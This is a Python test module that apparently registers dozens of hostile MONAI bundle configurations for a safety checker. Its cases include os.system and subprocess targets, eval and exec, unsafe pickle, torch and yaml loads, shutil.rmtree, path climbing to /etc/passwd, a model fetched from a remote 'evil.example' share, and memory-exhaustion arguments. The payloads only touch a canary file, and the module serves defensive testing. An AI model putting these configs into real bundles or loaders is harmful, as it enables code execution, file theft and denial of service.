"""Attacks by where a config holds code, by what it names as a target, and by arguments of allowed classes."""

from __future__ import annotations

from typing import Any

from core.hostile_bundles import NET, OPEN, config_attack

_PLACES: dict[str, Any] = {
    "whole_network": {"network_def": OPEN},
    "whole_preprocessing": {"preprocessing": OPEN},
    "list_item": {"preprocessing": {"_target_": "Compose", "transforms": [OPEN]}},
    "list_of_lists": {"inferer": {"_target_": "SlidingWindowInferer", "roi_size": [[OPEN], 1, 1]}},
    "nested_argument": {"network_def": {**NET, "act": ["relu", {"inplace": OPEN}]}},
    "disabled": {"network_def": {**NET, "_disabled_": OPEN}},
    "requires_text": {"network_def": {**NET, "_requires_": OPEN}},
    "requires_list": {"network_def": {**NET, "_requires_": [1, OPEN]}},
    "requires_reference": {"network_def": {**NET, "_requires_": "@evil"}, "evil": OPEN},
    "requires_component": {
        "network_def": {**NET, "_requires_": {"_target_": "os.system", "command": "touch {canary}"}}
    },
    "mode_expression": {"network_def": {**NET, "_mode_": OPEN}},
    "mode_callable": {"network_def": {**NET, "_mode_": "callable"}},
    "mode_debug": {"network_def": {**NET, "_mode_": "debug"}},
    "debug_argument": {"network_def": {**NET, "_debug_": True}},
    "dunder_argument": {"network_def": {**NET, "__class__": "x"}},
    "odd_argument": {"network_def": {**NET, "a b": 1}},
    "target_expression": {"network_def": {"_target_": OPEN}},
    "target_lambda": {"network_def": {"_target_": "$lambda **k: open('{canary}', 'w')"}},
    "target_reference": {"network_def": {"_target_": "@evil"}, "evil": "$print"},
    "target_macro": {"network_def": {"_target_": "%evil", "command": "touch {canary}"}, "evil": "os.system"},
    "target_list": {"network_def": {"_target_": ["os.system"], "command": "touch {canary}"}},
    "target_object": {"network_def": {"_target_": {"_target_": "os.system", "command": "touch {canary}"}}},
    "macro_of_component": {"network_def": "%evil", "evil": {"_target_": "os.system", "command": "touch {canary}"}},
    "macro_to_file": {"network_def": "%/etc/evil.json::network_def"},
    "macro_to_own_file": {"network_def": "%configs/inference.json#preprocessing"},
    "macro_to_yaml": {"network_def": "%{root}/configs/evil.YAML::a"},
    "macro_relative": {"network_def": {**NET, "dropout": "%##evil"}, "evil": OPEN},
    "macro_chain": {
        "network_def": "%one",
        "one": "%two",
        "two": {"_target_": "os.system", "command": "touch {canary}"},
    },
    "reference_chain": {"network_def": "@one", "one": "@two", "two": OPEN},
    "reference_relative": {"network_def": {**NET, "dropout": "@##evil"}, "evil": OPEN},
    "reference_old_separator": {"network_def": {**NET, "dropout": "@evil#a#0"}, "evil": {"a": [OPEN]}},
    "nested_id_key": {"network_def#dropout": OPEN},
    "nested_id_key_new": {"network_def::_target_": "os.system", "network_def::command": "touch {canary}"},
    "inverse_of_evil": {
        "postprocessing": {
            "_target_": "Compose",
            "transforms": [{"_target_": "Invertd", "keys": "pred", "transform": {"_target_": "scripts.evil.run"}}],
        }
    },
    "device": {"device": OPEN, "network_def": {**NET, "dropout": "$@device"}},
    "bundle_root": {"bundle_root": OPEN, "network_def": {**NET, "dropout": "$open(@bundle_root + '/x', 'w')"}},
    "checkpoint_path": {"ckpt_path": OPEN},
    "evaluator": {"evaluator": {"_target_": "scripts.evil.run"}, "run": ["$@evaluator.run()"]},
    "handlers": {"handlers": [{"_target_": "CheckpointLoader", "load_path": "{root}/data/evil.pkl"}]},
    "imports": {"imports": ["$import scripts", "$from scripts.evil import run"]},
    "initialize": {"initialize": ["$monai.utils.set_determinism(seed=1)", "$import scripts.evil"]},
}
for _name, _config in _PLACES.items():
    config_attack(f"place_{_name}", _config)

config_attack("place_key_of_object", {OPEN: 1, "extra": {OPEN: {"a": 1}}}, inert=True)
config_attack("place_description", {"network_def": {**NET, "_desc_": OPEN}}, inert=True)
config_attack("place_text_after_space", {"extra": " $open('{canary}', 'w')"}, inert=True)

_TOUCH = {"command": "touch {canary}"}
_TARGETS: dict[str, dict[str, Any]] = {
    "os.system": _TOUCH,
    "posix.system": _TOUCH,
    "builtins.eval": {"source": "open('{canary}', 'w')"},
    "builtins.exec": {"source": "open('{canary}', 'w')"},
    "builtins.open": {"file": "{canary}", "mode": "w"},
    "builtins.__import__": {"name": "scripts.evil"},
    "subprocess.run": {"args": ["touch", "{canary}"]},
    "subprocess.Popen": {"args": ["touch", "{canary}"]},
    "runpy.run_path": {"path_name": "{root}/scripts/evil.py"},
    "importlib.import_module": {"name": "scripts.evil"},
    "pathlib.Path": {},
    "shutil.rmtree": {"path": "{root}/scripts"},
    "functools.partial": {"func": "$print"},
    "pickle.loads": {"data": "x"},
    "numpy.load": {"file": "{root}/models/evil.npy", "allow_pickle": True},
    "numpy.save": {"file": "{canary}", "arr": 1},
    "torch.load": {"f": "{root}/data/evil.pkl", "weights_only": False},
    "torch.save": {"obj": 1, "f": "{canary}"},
    "torch.hub.load": {"repo_or_dir": "{root}", "model": "run", "source": "local"},
    "torch.ops.load_library": {"path": "{root}/models/evil.so"},
    "torch.jit.script": {"obj": 1},
    "torch.utils.model_zoo.load_url": {"url": "file://{root}/data/evil.pkl"},
    "torch.package.PackageImporter": {"file_or_buffer": "{root}/models/model.pt"},
    "monai.bundle.load": {"name": "x"},
    "monai.bundle.run": {"config_file": "{root}/configs/inference.json"},
    "monai.bundle.ConfigParser": {"config": {"a": OPEN}},
    "monai.bundle.config_item.ConfigExpression": {"config": OPEN},
    "monai.utils.optional_import": {"module": "scripts.evil"},
    "monai.utils.module.instantiate": {"__path": "os.system", "__mode": "default"},
    "monai.utils.load_submodules": {"basemod": "x"},
    "monai.transforms.Lambda": {"func": "$print"},
    "monai.transforms.Lambdad": {"keys": "image", "func": "$print"},
    "Lambdad": {"keys": "image", "func": "$print"},
    "LambdaD": {"keys": "image", "func": "$print"},
    "TorchVisiond": {"keys": "image", "name": "ColorJitter"},
    "DataStatsd": {"keys": "image", "additional_info": "$print"},
    "SaveImage": {"output_dir": "{root}", "writer": "scripts.evil.run"},
    "LoadImage": {"reader": "scripts.evil.run"},
    "monai.transforms.io.dictionary.LoadImaged": {"keys": "image", "reader": "scripts.evil.run"},
    "monai.networks.nets.torch.hub.load": {"repo_or_dir": "{root}", "model": "run", "source": "local"},
    "monai.networks.nets.unet.torch.load": {"f": "{root}/data/evil.pkl", "weights_only": False},
    "monai.networks.nets.unet.warnings.sys.modules": {},
    "monai.transforms.compose.np.load": {"file": "{root}/models/evil.npy", "allow_pickle": True},
    "monai.inferers.PatchInferer": {"merger_cls": "scripts.evil.run"},
    "monai.networks.nets.HoVerNet": {"pretrained_url": "file://{root}/data/evil.pkl"},
    "monai.networks.nets.TorchVisionFCModel": {"model_name": "resnet18", "pretrained": True},
    "monai.networks.nets.FlexUNetEncoderRegister": {},
    "monai.networks.nets.flexible_unet.locate": {"path": "scripts.evil"},
    "scripts.evil.run": {},
    "scripts.evil.Reader": {},
    "evil": {},
    "UNet ": {},
    "unet": {},
    "": {},
    ".": {},
    "UNet.__init__.__globals__": {},
    "monai.networks.nets.UNet.__init__": {},
    "monai.networks.nets.UNet.load_state_dict": {},
    "torch.nn.Module": {},
    "torch.nn.modules.module.torch.load": {"f": "{root}/data/evil.pkl", "weights_only": False},
    "pdb.runcall": {"func": "$print"},
    "DataLoader": {"dataset": []},
    "monai.apps.download_and_extract": {"url": "file://{root}/data/evil.pkl", "output_dir": "{root}"},
    "logging.config.fileConfig": {"fname": "{root}/configs/logging.conf"},
    "yaml.unsafe_load": {"stream": "!!python/object/apply:os.system ['touch {canary}']"},
}
for _number, (_target, _arguments) in enumerate(_TARGETS.items()):
    config_attack(
        f"target_{_number:02d}_{_target.strip() or 'empty'}", {"network_def": {"_target_": _target, **_arguments}}
    )

config_attack(
    "target_loader_outside_a_list",
    {"preprocessing": {"_target_": "LoadImaged", "keys": "image", "reader": "scripts.evil.run"}},
)
config_attack(
    "target_named_like_a_loader",
    {
        "preprocessing": {
            "_target_": "Compose",
            "transforms": [{"_target_": "scripts.evil.LoadImaged", "keys": "image"}],
        }
    },
)

_ARGUMENTS: dict[str, Any] = {
    "pretrained": {"_target_": "EfficientNetBN", "model_name": "efficientnet-b0", "pretrained": True},
    "pretrained_path": {
        "_target_": "resnet18", "pretrained": "{root}/data/evil.pkl", "n_input_channels": 1, "spatial_dims": 3,
        "feed_forward": False, "shortcut_type": "A", "bias_downsample": True,
    },
    "pretrained_computed": {
        "_target_": "DenseNet121", "spatial_dims": 2, "in_channels": 3, "out_channels": 2, "pretrained": "$1 == 1",
    },
    "function_given": {
        "_target_": "CropForegroundd", "keys": "a", "source_key": "a", "select_fn": {"_target_": "Identity"},
    },
    "post_function": {"_target_": "Invertd", "keys": "a", "transform": {"_target_": "Identity"}, "post_func": "$len"},
    "activation_other": {"_target_": "Activationsd", "keys": "a", "other": "@inferer"},
    "log_stats": {"_target_": "Compose", "transforms": [], "log_stats": "evil.logger"},
    "pattern": {"_target_": "DeleteItemsd", "keys": "(a+)+$", "use_re": True},
    "program_outside": {"_target_": "torch.jit.load", "f": "/etc/passwd"},
    "program_climbing": {"_target_": "torch.jit.load", "f": "$@bundle_root + '/../../../../etc/passwd'"},
    "program_extra": {"_target_": "torch.jit.load", "f": "models/model.pt", "_extra_files": {}},
    "program_object": {"_target_": "torch.jit.load", "f": ["models/model.pt"]},
    "many_channels": {**NET, "channels": [10**9, 10**9]},
    "many_units": {**NET, "num_res_units": 10**9},
    "size_without_trial": {
        "_target_": "SwinUNETR", "in_channels": 16380, "out_channels": 2, "feature_size": 16380, "depths": [1, 1, 1, 1],
        "num_heads": [1, 1, 1, 1],
    },
    "many_networks": {
        **NET, "_requires_": [{"_target_": "torch.nn.LayerNorm", "normalized_shape": [16000, 16000]}] * 5,
    },
    "many_blocks": {
        "_target_": "EfficientNet", "blocks_args_str": ["r30000_k3_s11_e1_i8_o8_se0.25"], "in_channels": 1,
        "num_classes": 2,
    },
    "large_network": {**NET, "channels": [16000, 16000, 16000], "strides": [2, 2]},
}  # fmt: skip
for _name, _component in _ARGUMENTS.items():
    config_attack(f"argument_{_name}", {"network_def": _component})
config_attack(
    "argument_window",
    {"inferer": {"_target_": "SlidingWindowInferer", "roi_size": [4000, 4000, 4000], "cache_roi_weight_map": True}},
)

config_attack(
    "argument_anchors",
    {
        "network_def": "$monai.apps.detection.utils.anchor_utils.AnchorGeneratorWithAnchorShape("
        "feature_map_scales=[1] * 10000, base_anchor_shapes=[[1, 1, 1]] * 10000)",
    },
)
config_attack(
    "argument_anchor_sizes",
    {
        "network_def": {
            "_target_": "monai.apps.detection.utils.anchor_utils.AnchorGenerator",
            "sizes": "$[list(range(1, 300))] * 100",
            "aspect_ratios": "$[list(range(1, 300))] * 100",
        },
    },
)
config_attack(
    "argument_fine_spacing",
    {"preprocessing": {"_target_": "Compose", "transforms": [{"_target_": "Spacingd", "keys": "a", "pixdim": 1e-7}]}},
)
config_attack(
    "argument_large_image",
    {
        "preprocessing": {
            "_target_": "Compose",
            "transforms": [{"_target_": "SpatialPadd", "keys": "a", "spatial_size": [9000, 9000, 9000]}],
        }
    },
)
config_attack(
    "argument_program_on_another_computer",
    {"network_def": {"_target_": "torch.jit.load", "f": "//evil.example/share/model.ts"}},
)
